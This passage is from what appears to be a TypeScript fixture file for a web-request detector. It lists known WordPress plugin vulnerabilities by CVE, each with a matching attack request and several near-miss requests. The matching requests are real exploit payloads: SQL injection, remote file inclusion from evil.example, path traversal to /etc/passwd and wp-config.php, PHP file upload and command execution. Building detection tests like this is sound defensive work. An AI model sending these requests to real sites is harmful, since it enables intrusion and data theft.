          'https://www.example.com/wp-admin/admin.php?ID=0+AND+(SELECT+1)&page=wps_pages_page&type=1',
      },
    ],
  },
  {
    name: 'wp-perfect-survey',
    product: 'WordPress Perfect Survey',
    does: 'sql',
    cve: ['2021-24762'],
    path: '/wp-admin/admin-ajax.php',
    args: ['action=get_question', 'question_id~quote'],
    hit: 'GET /wp-admin/admin-ajax.php?action=get_question&question_id=1%20union%20select%201',
    misses: [
      'GET /wp-admin/admin-ajax.php-guide?action=get_question&question_id=1%20union%20select%201',
      'GET /wp-admin/admin-ajax.php?action=list&question_id=1%20union%20select%201',
      'GET /wp-admin/admin-ajax.php?action=get_question&question_id=list',
      {
        referrer:
          'https://www.example.com/wp-admin/admin-ajax.php?action=get_question&question_id=1%20union%20select%201',
      },
    ],
  },
  {
    name: 'wp-modern-events',
    product: 'WordPress Modern Events Calendar',
    does: 'leak',
    cve: ['2021-24146'],
    path: '/wp-admin/admin.php',
    args: ['page=MEC-ix', 'tab=MEC-export'],
    hit: 'GET /wp-admin/admin.php?page=MEC-ix&tab=MEC-export&mec-ix-action=export-events&format=csv',
    misses: [
      'GET /wp-admin/admin.php-guide?page=MEC-ix&tab=MEC-export&mec-ix-action=export-events&format=csv',
      'GET /wp-admin/admin.php?page=list&tab=MEC-export&mec-ix-action=export-events&format=csv',
      'GET /wp-admin/admin.php?page=MEC-ix&tab=list&mec-ix-action=export-events&format=csv',
      {
        referrer:
          'https://www.example.com/wp-admin/admin.php?page=MEC-ix&tab=MEC-export&mec-ix-action=export-events&format=csv',
      },
    ],
  },
  {
    name: 'wp-woocommerce-store-api',
    product: 'WooCommerce Blocks',
    does: 'sql',
    cve: ['2021-32789'],
    path: '/wc/store/products/collection-data',
    args: ['calculate_attribute_counts[0][taxonomy]'],
    hit: 'GET /wp-json/wc/store/products/collection-data?calculate_attribute_counts[0][query_type]=or&calculate_attribute_counts[0][taxonomy]=%252522%252529',
    misses: [
      'GET /wp-json/wc/store/products/collection-data-guide?calculate_attribute_counts[0][query_type]=or&calculate_attribute_counts[0][taxonomy]=%252522%252529',
      'GET /wp-json/wc/store/products/collection-data?calculate_attribute_counts[0][query_type]=or',
      {
        referrer:
          'https://www.example.com/wp-json/wc/store/products/collection-data?calculate_attribute_counts[0][query_type]=or&calculate_attribute_counts[0][taxonomy]=%252522%252529',
      },
    ],
  },
  {
    name: 'wp-canto',
    product: 'WordPress Canto',
    does: 'include',
    cve: ['2023-3452', '2020-28976'],
    path: '/canto/includes/lib/',
    hit: 'GET /wp-content/plugins/canto/includes/lib/download.php?wp_abspath=http://evil.example',
    misses: [
      'GET /search?q=/wp-content/plugins/canto/includes/lib/download.php',
      {
        referrer:
          'https://www.example.com/wp-content/plugins/canto/includes/lib/download.php?wp_abspath=http://evil.example',
      },
    ],
  },
  {
    name: 'wp-gwolle',
    product: 'WordPress Gwolle Guestbook',
    does: 'include',
    cve: ['2015-8351'],
    path: '/gwolle-gb/frontend/captcha/ajaxresponse.php',
    args: ['abspath'],
    hit: 'GET /wp-content/plugins/gwolle-gb/frontend/captcha/ajaxresponse.php?abspath=http://evil.example/',
    misses: [
      'GET /wp-content/plugins/gwolle-gb/frontend/captcha/ajaxresponse.php-guide?abspath=http://evil.example/',
      'GET /wp-content/plugins/gwolle-gb/frontend/captcha/ajaxresponse.php?my_abspath=http://evil.example/',
      {
        referrer:
          'https://www.example.com/wp-content/plugins/gwolle-gb/frontend/captcha/ajaxresponse.php?abspath=http://evil.example/',
      },
    ],
  },
  {
    name: 'wp-dzs-upload',
    product: 'WordPress DZS Video Gallery and ZoomSounds',
    does: 'upload',
    cve: ['2021-4449'],
    path: '/savepng.php',
    args: ['location'],
    hit: 'POST /wp-content/plugins/dzs-zoomsounds/savepng.php?location=x.php',
    misses: [
      'POST /wp-content/plugins/dzs-zoomsounds/savepng.php-guide?location=x.php',
      'POST /wp-content/plugins/dzs-zoomsounds/savepng.php?my_location=x.php',
      {
        referrer:
          'https://www.example.com/wp-content/plugins/dzs-zoomsounds/savepng.php?location=x.php',
      },
    ],
  },
  {
    name: 'wp-dzs-read',
    product: 'WordPress DZS ZoomSounds',
    does: 'read',
    cve: ['2021-39316'],
    path: '/',
    args: ['action=dzsap_download', 'link'],
    hit: 'GET /?action=dzsap_download&link=../../../../etc/passwd',
    misses: [
      'GET /?action=list&link=../../../../etc/passwd',
      'GET /?action=dzsap_download&my_link=../../../../etc/passwd',
      { referrer: 'https://www.example.com/?action=dzsap_download&link=../../../../etc/passwd' },
    ],
  },
  {
    name: 'wp-db-backup',
    product: 'WordPress DB Backup',
    does: 'read',
    cve: ['2014-9119'],
    path: '/wp-content/plugins/db-backup/download.php',
    args: ['file'],
    hit: 'GET /wp-content/plugins/db-backup/download.php?file=/etc/passwd',
    misses: [
      'GET /wp-content/plugins/db-backup/download.php-guide?file=/etc/passwd',
      'GET /wp-content/plugins/db-backup/download.php?my_file=/etc/passwd',
      {
        referrer:
          'https://www.example.com/wp-content/plugins/db-backup/download.php?file=/etc/passwd',
      },
    ],
  },
  {
    name: 'wp-aspose',
    product: 'WordPress Aspose exporters',
    does: 'read',
    ref: 'https://www.exploit-db.com/exploits/36559',
    path: '/aspose_*_exporter_download.php',
    args: ['file'],
    hit: 'GET /wp-content/plugins/aspose-doc-exporter/aspose_doc_exporter_download.php?file=../../../wp-config.php',
    misses: [
      'GET /wp-content/plugins/aspose-doc-exporter/aspose_doc_exporter_download.php-guide?file=../../../wp-config.php',
      'GET /wp-content/plugins/aspose-doc-exporter/aspose_doc_exporter_download.php?my_file=../../../wp-config.php',
      {
        referrer:
          'https://www.example.com/wp-content/plugins/aspose-doc-exporter/aspose_doc_exporter_download.php?file=../../../wp-config.php',
      },
    ],
  },
  {
    name: 'wp-brandfolder',
    product: 'WordPress Brandfolder',
    does: 'include',
    ref: 'https://www.exploit-db.com/exploits/39591',
    path: '/brandfolder/callback.php',
    args: ['wp_abspath'],
    hit: 'GET /wp-content/plugins/brandfolder/callback.php?wp_abspath=../../../wp-config.php%00',
    misses: [
      'GET /wp-content/plugins/brandfolder/callback.php-guide?wp_abspath=../../../wp-config.php%00',
      'GET /wp-content/plugins/brandfolder/callback.php?my_wp_abspath=../../../wp-config.php%00',
      {
        referrer:
          'https://www.example.com/wp-content/plugins/brandfolder/callback.php?wp_abspath=../../../wp-config.php%00',
      },
    ],
  },
  {
    name: 'wp-mobile-detector',
    product: 'WordPress WP Mobile Detector',
    does: 'upload',
    ref: 'https://www.exploit-db.com/exploits/39891',
    path: '/wp-mobile-detector/resize.php',
    args: ['src'],
    hit: 'GET /wp-content/plugins/wp-mobile-detector/resize.php?src=http://evil.example/x.php',
    misses: [
      'GET /wp-content/plugins/wp-mobile-detector/resize.php-guide?src=http://evil.example/x.php',
      'GET /wp-content/plugins/wp-mobile-detector/resize.php?my_src=http://evil.example/x.php',
      {
        referrer:
          'https://www.example.com/wp-content/plugins/wp-mobile-detector/resize.php?src=http://evil.example/x.php',
      },
    ],
  },
  {
    name: 'wp-layerslider',
    product: 'WordPress LayerSlider',
    does: 'sql',
    cve: ['2024-2879'],
    path: '/wp-admin/admin-ajax.php',
    args: ['action=ls_get_popup_markup'],
    hit: 'GET /wp-admin/admin-ajax.php?action=ls_get_popup_markup&id[where]=1)+AND+sleep',
    misses: [
      'GET /wp-admin/admin-ajax.php-guide?action=ls_get_popup_markup&id[where]=1)+AND+sleep',
      'GET /wp-admin/admin-ajax.php?action=list&id[where]=1)+AND+sleep',
      {
        referrer:
          'https://www.example.com/wp-admin/admin-ajax.php?action=ls_get_popup_markup&id[where]=1)+AND+sleep',
      },
    ],
  },
  {
    name: 'wp-elementor-upload',
    product: 'WordPress Elementor Pro',
    does: 'account',
    cve: ['2023-3124'],
    path: '/wp-admin/admin-ajax.php',
    args: ['action=pro_woocommerce_update_page_option'],
    hit: 'POST /wp-admin/admin-ajax.php?action=pro_woocommerce_update_page_option',
    misses: [
      'POST /wp-admin/admin-ajax.php-guide?action=pro_woocommerce_update_page_option',
      'POST /wp-admin/admin-ajax.php?action=list',
      {
        referrer:
          'https://www.example.com/wp-admin/admin-ajax.php?action=pro_woocommerce_update_page_option',
      },
    ],
  },
  {
    name: 'wp-w3tc',
    product: 'WordPress W3 Total Cache',
    does: 'read',
    cve: ['2019-6715'],
    path: '/w3-total-cache/pub/sns.php',
    hit: 'PUT /wp-content/plugins/w3-total-cache/pub/sns.php',
    misses: [
      'PUT /wp-content/plugins/w3-total-cache/pub/sns.php-guide',
      'GET /search?q=/wp-content/plugins/w3-total-cache/pub/sns.php',
    ],
  },
  {
    name: 'wp-user-post-gallery',
    product: 'WordPress User Post Gallery',
    does: 'code',
    cve: ['2022-4060'],
    path: '/wp-admin/admin-ajax.php',
    args: ['action=upg_datatable'],
    severity: 'critical',
    hit: 'GET /wp-admin/admin-ajax.php?action=upg_datatable&field=field:exec:id:NULL',
    misses: [
      'GET /wp-admin/admin-ajax.php-guide?action=upg_datatable&field=field:exec:id:NULL',
      'GET /wp-admin/admin-ajax.php?action=list&field=field:exec:id:NULL',
      {
        referrer:
          'https://www.example.com/wp-admin/admin-ajax.php?action=upg_datatable&field=field:exec:id:NULL',
      },
    ],
  },
] as const satisfies readonly KnownRequest[]
